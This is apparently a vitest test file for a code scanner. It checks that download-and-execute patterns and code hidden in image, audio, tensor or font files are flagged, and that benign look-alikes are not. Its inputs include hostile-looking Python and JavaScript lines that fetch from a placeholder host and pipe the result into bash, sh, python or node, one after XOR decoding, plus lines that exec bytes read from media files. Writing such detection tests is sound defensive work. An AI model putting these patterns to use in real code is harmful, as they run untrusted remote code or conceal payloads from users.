import { describe, expect, it } from 'vitest';
import { verdicts } from './support.ts';

const lines = (...all: readonly string[]): string => `${all.join('\n')}\n`;
const FETCHED = 'requests.get("https://files.example.invalid/p").content';

describe('what an interpreter is given to read', () => {
  it.each([
    [
      'all at once',
      ['run = subprocess.Popen(["bash"], stdin=subprocess.PIPE)', `run.communicate(${FETCHED})`],
    ],
    [
      'by its name',
      ['run = subprocess.Popen(["bash"], stdin=subprocess.PIPE)', `run.communicate(input=${FETCHED})`],
    ],
    [
      'piece by piece',
      ['run = subprocess.Popen([sys.executable, "-"], stdin=subprocess.PIPE)', `run.stdin.write(${FETCHED})`],
    ],
    ['of a line', [`subprocess.run("bash", shell=True, input=${FETCHED})`]],
    ['after arithmetic', [`subprocess.run(["python3"], input=bytes(byte ^ 7 for byte in ${FETCHED}))`]],
  ])('is run: %s', async (_, program) => {
    const text = lines('import requests, subprocess, sys', ...program);
    expect(await verdicts('run.py', text)).toEqual(['CODE-DOWNLOAD-RUN CRITICAL']);
  });

  it.each([
    [
      'written',
      lines('const shell = spawn("sh");', 'fetch(url).then(async (r) => shell.stdin.write(await r.text()));'),
    ],
    ['written last', lines('const shell = spawn("sh");', 'fetch(url).then((r) => shell.stdin.end(r.body));')],
    [
      'piped',
      lines(
        'const node = spawn(process.execPath, ["-"]);',
        'require("https").get(url, (r) => r.pipe(node.stdin));',
      ),
    ],
  ])('is run in JavaScript: %s', async (_, program) => {
    const text = `const { spawn } = require("child_process");\nconst url = "https://files.example.invalid/p";\n${program}`;
    expect(await verdicts('run.js', text)).toEqual(['CODE-DOWNLOAD-RUN CRITICAL']);
  });

  it.each([
    ['a program that is no interpreter', ['subprocess.run(["gzip", "-c"], input=data)']],
    [
      'an interpreter that has a program',
      [
        'run = subprocess.Popen([sys.executable, "convert.py"], stdin=subprocess.PIPE)',
        'run.communicate(data)',
      ],
    ],
    ['a file of that name', ['with open("x.bin", "wb") as run:', '    run.write(data)']],
  ])('is data to %s', async (_, program) => {
    const text = lines('import requests, subprocess, sys', `data = ${FETCHED}`, ...program);
    const found = await verdicts('run.py', text);
    expect(found.filter((verdict) => !verdict.endsWith(' LOW'))).toEqual([]);
  });
});

describe('code in what is no code', () => {
  it.each([
    ['pixels', 'from PIL import Image\nexec(bytes(Image.open(path).getdata()))\n', 'HIGH'],
    ['frames', 'import wave\nwith wave.open(path) as f:\n    exec(f.readframes(9))\n', 'HIGH'],
    ['a name', 'exec(open("Logo.PNG", "rb").read())\n', 'HIGH'],
    ['bytes of a tensor', 'import numpy as np\nexec(np.load(path).tobytes())\n', 'MEDIUM'],
  ])('is found: %s', async (_, text, severity) => {
    expect(await verdicts('load.py', text)).toContain(`CODE-CARRIER ${severity}`);
  });

  it.each([
    ['a script', '#!/bin/sh\nbash assets/logo.jpg\n'],
    ['an option before it', '#!/bin/sh\npython3 -u fonts/icons.woff2\n'],
  ])('is found where an interpreter is started with it: %s', async (_, text) => {
    expect(await verdicts('run.sh', text)).toEqual(['CODE-CARRIER HIGH']);
  });

  it.each([
    ['run.py', 'import subprocess\nsubprocess.run(["python", "show.py", "logo.png"])\n'],
    ['run.py', 'import subprocess\nsubprocess.run(["convert", "logo.png", "logo.ico"])\n'],
    ['run.js', 'const { execSync } = require("child_process");\nexecSync("node show.js logo.png");\n'],
    ['run.sh', '#!/bin/sh\nxdg-open logo.png\n'],
  ])('is not what a program is shown: %s %s', async (path, text) => {
    expect(await verdicts(path, text)).toEqual([]);
  });
});

it('is judged once for each program that is started, however many there are', async () => {
  const started = Array.from({ length: 10_000 }, (_, at) =>
    [`p${at} = subprocess.Popen(["bash"], stdin=subprocess.PIPE)`, `p${at}.communicate(p${at - 1})`].join(
      '\n',
    ),
  );
  const last = `p9999.communicate(${FETCHED})`;
  const found = await verdicts('run.py', lines('import requests, subprocess', ...started, last));
  expect(found).toContain('CODE-DOWNLOAD-RUN CRITICAL');
});
